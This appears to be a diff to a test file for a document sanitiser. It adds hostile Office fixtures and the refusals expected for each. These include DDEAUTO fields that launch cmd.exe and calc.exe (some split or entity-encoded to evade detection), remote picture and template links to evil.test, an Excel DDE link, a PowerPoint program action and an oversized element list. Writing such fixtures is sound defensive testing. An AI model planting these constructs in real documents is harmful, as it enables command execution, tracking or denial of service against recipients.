@@ -114,6 +114,35 @@ def _part(media_type: str, name: str, data: str | bytes) -> Callable[[], bytes]:
     return lambda: documents.office(media_type, {name: data})
 
 
+def _fielded(*codes: str) -> Callable[[], bytes]:
+    """Return what writes a text document with a field in it, inside of another one."""
+    inner = documents.field(*codes)
+    return lambda: documents.office(DOCX, documents.written(*documents.field(" PAGE ")[:2], *inner))
+
+
+def _slide(action: str) -> Callable[[], bytes]:
+    drawn = f'<p:sld xmlns:p="p" xmlns:a="a"><a:hlinkMouseOver action="{action}"/></p:sld>'
+    return _part(PPTX, "ppt/slides/slide1.xml", drawn)
+
+
+def _listed_as(kind: str) -> bytes:
+    """Return a document whose main part, by the relations, is another than the list begins with, of this type."""
+    more = f'<Override PartName="/word/other.xml" ContentType="{kind}"/>'
+    return documents.office(
+        DOCX,
+        {
+            "[Content_Types].xml": documents.types(DOCX, more=more),
+            "_rels/.rels": documents.relations(("officeDocument", "word/other.xml", False)),
+            "word/other.xml": "<a/>",
+        },
+    )
+
+
+def _elements(count: int) -> str:
+    """Return elements, so different that they cannot be packed to nothing."""
+    return "".join(f"<a{number * 7919 % 99_991}/>" for number in range(count))
+
+
 def _named(name: str) -> Callable[[], bytes]:
     """Return what writes a document in which a part has this name, which zipfile would mend."""
     stand_in = "n" * len(name.encode())
@@ -179,10 +208,6 @@ def _encrypted_part() -> bytes:
     data = bytearray(documents.office(DOCX))
     data[data.rindex(b"PK\x01\x02") + 8] |= 1
     return bytes(data)
-
-
-def _ole(name: str) -> bytes:
-    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1024) + name.encode("utf-16-le") + bytes(1024)
 
 
 def _main(media_type: str, main: str, more: dict[str, str | bytes] | None = None) -> Callable[[], bytes]:
@@ -399,10 +424,6 @@ HOSTILE: dict[str, Hostile] = {
     "one name twice": Hostile(media_type=DOCX, make=_twice, refusal=refusals.UnreadableFile),
     "two names of one part": Hostile(media_type=DOCX, make=_other_name, refusal=refusals.UnreadableFile),
     "an encrypted part": Hostile(media_type=DOCX, make=_encrypted_part, refusal=refusals.EncryptedFile),
-    "an encrypted document": Hostile(
-        media_type=DOCX, make=lambda: _ole("EncryptedPackage"), refusal=refusals.EncryptedFile
-    ),
-    "an old document": Hostile(media_type=DOCX, make=lambda: _ole("WordDocument"), refusal=refusals.TypeMismatch),
     "a macro": Hostile(
         media_type=DOCX, make=_part(DOCX, "word/vbaProject.bin", b"\xd0\xcf\x11\xe0"), refusal=refusals.ActiveContent
     ),
@@ -423,6 +444,47 @@ HOSTILE: dict[str, Hostile] = {
         ),
         refusal=refusals.ActiveContent,
     ),
+    "a program in a field": Hostile(
+        media_type=DOCX, make=_fielded(' DDEAUTO c:\\cmd.exe "/k calc.exe" '), refusal=refusals.ActiveContent
+    ),
+    "a program in a field in pieces": Hostile(
+        media_type=DOCX, make=_fielded(" ", "D", "DEAU", "TO c:\\cmd.exe"), refusal=refusals.ActiveContent
+    ),
+    "a program in a field by a reference": Hostile(
+        media_type=DOCX, make=_fielded("&#68;DE Excel a"), refusal=refusals.ActiveContent
+    ),
+    "a program in a short field": Hostile(
+        media_type=DOCX,
+        make=lambda: documents.office(DOCX, documents.written('<w:fldSimple w:instr=" dde Excel a"/>')),
+        refusal=refusals.ActiveContent,
+    ),
+    "a picture elsewhere in a field": Hostile(
+        media_type=DOCX, make=_fielded(' INCLUDEPICTURE "http://evil.test/a.png" \\d '), refusal=refusals.ActiveContent
+    ),
+    "a program in a sheet": Hostile(
+        media_type=XLSX,
+        make=_part(
+            XLSX, "xl/externalLinks/externalLink1.xml", '<externalLink><ddeLink ddeService="cmd"/></externalLink>'
+        ),
+        refusal=refusals.ActiveContent,
+    ),
+    "a sheet that asks a server": Hostile(
+        media_type=XLSX,
+        make=_part(XLSX, "xl/connections.xml", '<connections><webPr url="http://evil.test"/></connections>'),
+        refusal=refusals.ActiveContent,
+    ),
+    "a program on a slide": Hostile(media_type=PPTX, make=_slide("ppaction://program"), refusal=refusals.ActiveContent),
+    "a template elsewhere that is said to be a link": Hostile(
+        media_type=DOCX,
+        make=_relation("http://evil.test/hyperlink", "http://evil.test/a.dotm"),
+        refusal=refusals.ActiveContent,
+    ),
+    "a list of 700,000 elements": Hostile(
+        media_type=DOCX,
+        make=lambda: documents.office(DOCX, {"[Content_Types].xml": documents.types(DOCX, more=_elements(700_000))}),
+        refusal=refusals.TooComplex,
+    ),
+    "a stranger's type": Hostile(media_type=DOCX, make=lambda: _listed_as("x" * 5000), refusal=refusals.TypeMismatch),
     "a page in a document": Hostile(
         media_type=DOCX, make=_relation(f"{RELATION}/aFChunk", "a.html"), refusal=refusals.ActiveContent
     ),
